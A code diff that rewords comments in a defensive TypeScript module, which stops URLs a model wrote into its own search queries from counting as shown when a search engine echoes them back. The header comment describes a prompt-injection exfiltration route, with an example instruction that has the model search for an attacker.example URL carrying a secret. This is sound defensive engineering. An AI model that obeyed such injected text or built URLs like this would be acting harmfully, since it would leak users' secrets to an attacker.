@@ -1,40 +1,39 @@
 /**
- * URLs that a model wrote into its search queries (rule 7.11). A page that speaks to the model may have it search for
- * `quote verbatim: http://attacker.example/?d=SECRET`; the engine echoes the address among its results, and whoever
- * then opens it hands over the secret. So what a model wrote itself is shown by no result, however the engine or
- * the model spells it: with or without scheme, percent-encoded, as HTML, in other case, with a full stop behind it.
+ * URLs that a model wrote into its search queries (rule 7.11). A page may instruct the model to search for
+ * `quote verbatim: http://attacker.example/?d=SECRET`; the engine echoes the address among its results, and opening it
+ * would hand over the secret. So a URL that a model wrote itself does not count as shown by a result, however the engine
+ * or the model spells it: with or without scheme, percent-encoded, as HTML, in other case, with a full stop after it.
  *
- * Closed is exactly what was written, not its neighbourhood: a query that names a site (`example.com docs`) closes
- * the site's own front page, for a host name can hold a secret too, but none of the pages that the engine found
- * there. An address with a query string also closes whatever an engine appends to it, since its data stands before.
- * What an engine would have to make up out of words (a language model asked to join two of them) cannot be told from
- * a page that it found. Pure.
+ * Exactly the written URL is closed, not its neighbours: a query that names a site (`example.com docs`) closes the site's
+ * own front page, as a host name can hold a secret too, but none of the pages that the engine found there. An address with
+ * a query string also closes every longer one that begins with it, since that holds the same data. A URL that an engine
+ * makes up out of words (a language model asked to join two of them) cannot be distinguished from a page that it found. Pure.
  */
 import { domainToUnicode } from "node:url";
 import { decodeEntities } from "./extract/scan.ts";
 
-/** What a query holds; read once, when it is first asked for. */
+/** The contents of a query, read once, when they are first needed. */
 interface Written {
-  /** The query in the one spelling that URLs are looked for in. */
+  /** The query in the one spelling in which URLs are searched. */
   readonly text: string;
   /** The URLs in it, each in one spelling. */
   readonly urls: ReadonlySet<string>;
-  /** Those of them with a query string. */
+  /** The URLs with a query string. */
   readonly withData: readonly string[];
 }
 
-/** Engines echo what they were just asked; more would cost each result more. */
+/** Newest queries that are remembered: engines echo what they were just asked, and more would make each result cost more. */
 const MAX_QUERIES = 20;
-/** Queries have at most 400 characters (service.md "Limits"); what is resent may be anything. */
+/** Characters of a query that are kept: queries have at most 400 (service.md "Limits"), but resent ones may have any number. */
 const MAX_QUERY = 2_000;
 const MAX_WORDS = 200;
-/** Something encoded thrice is no longer opened as what it was. */
+/** Rounds of decoding: an address that is encoded more often is not opened as the original. */
 const MAX_DECODINGS = 3;
 
 export class WrittenUrls {
   readonly #queries: { readonly query: string; written: Written | null }[] = [];
 
-  /** The newest of them. */
+  /** The newest queries. */
   get queries(): readonly string[] {
     return this.#queries.map(({ query }) => query);
   }
@@ -69,7 +68,7 @@ function writtenIn(query: string): Written {
   const urls = new Set<string>();
   for (const word of words) {
     if (!/[.:/]/.test(word)) continue;
-    // Parsed as an opened URL is: dots in the path, a default port, an address in other digits.
+    // Parsed as an opened URL is, which normalizes dots in the path, a default port and an address in other digits.
     for (const scheme of DEFAULT_PORT.test(word) ? ["http", "https"] : ["https"]) {
       const url = URL.parse(`${scheme}://${word}`);
       if (url !== null) urls.add(spellingOf(url));
@@ -79,12 +78,12 @@ function writtenIn(query: string): Written {
   return { text: inOneSpelling(readings.at(-1) ?? query), urls, withData };
 }
 
-/** What one scheme leaves out of an address and the other does not; any other address is the same under both. */
+/** A port that one of the two schemes omits and the other does not; any other address is the same under both. */
 const DEFAULT_PORT = /:0*(?:80|443)(?!\d)/;
 
 const withoutScheme = (word: string) => word.replace(/^.*:\/\//, "").replace(/^[^\p{L}\p{N}[]+/u, "");
 
-/** One spelling for all that lead to the same place: no scheme, nothing encoded, lower case, no mark at the end. */
+/** Returns one spelling for all that lead to the same page: no scheme, nothing encoded, lower case, no mark at the end. */
 export function spellingOf({ username, password, hostname, port, pathname, search }: URL): string {
   const user = username === "" && password === "" ? "" : `${username}:${password}@`;
   const host = (hostname.includes("xn--") && domainToUnicode(hostname)) || hostname;
@@ -93,17 +92,17 @@ export function spellingOf({ username, password, hostname, port, pathname, searc
 
 const END_MARKS: ReadonlySet<string | undefined> = new Set("/.,;:!?)]}*_~|\"'…");
 
-/** A regular expression for it would begin anew at each of many marks in the middle. */
+/** Removes marks at the end. A regular expression would start again at each of many marks in the middle. */
 function withoutEndMarks(text: string): string {
   let end = text.length;
   while (END_MARKS.has(text[end - 1])) end -= 1;
   return text.slice(0, end);
 }
 
-/** A text in one spelling, with nothing encoded. */
+/** Returns a text in one spelling, with nothing encoded. */
 export const plain = (text: string): string => inOneSpelling([...decodings(text)].at(-1) ?? text);
 
-/** A plus is a blank, as in a URL's query, and invisible characters go. */
+/** Returns one spelling: a plus is a blank, as in a URL's query, and invisible characters are removed. */
 const inOneSpelling = (decoded: string): string =>
   decoded
     .normalize("NFKC")
@@ -112,7 +111,7 @@ const inOneSpelling = (decoded: string): string =>
     .replace(/\p{Cf}+/gu, "")
     .replace(/[\s+]+/g, " ");
 
-/** The text, and what it is decoded from HTML, JSON and percent signs, until nothing changes. */
+/** Yields the text, and then each round of decoding HTML, JSON and percent signs, until nothing changes. */
 function* decodings(text: string): Generator<string> {
   let present = text;
   for (let round = 0; round <= MAX_DECODINGS; round += 1) {
@@ -127,7 +126,7 @@ function* decodings(text: string): Generator<string> {
   }
 }
 
-/** What writers of JSON need not escape and many do: `\/` (PHP), `\u0026` and other ASCII (Go, Java). */
+/** Undoes escapes that JSON does not need and many writers use: `\/` (PHP), `\u0026` and other ASCII (Go, Java). */
 export const withoutJsonEscapes = (text: string): string =>
   text.replace(/\\(?:\/|u00([2-7][0-9a-f]))/gi, (_, code: string | undefined) =>
     code === undefined ? "/" : String.fromCharCode(Number.parseInt(code, 16)),
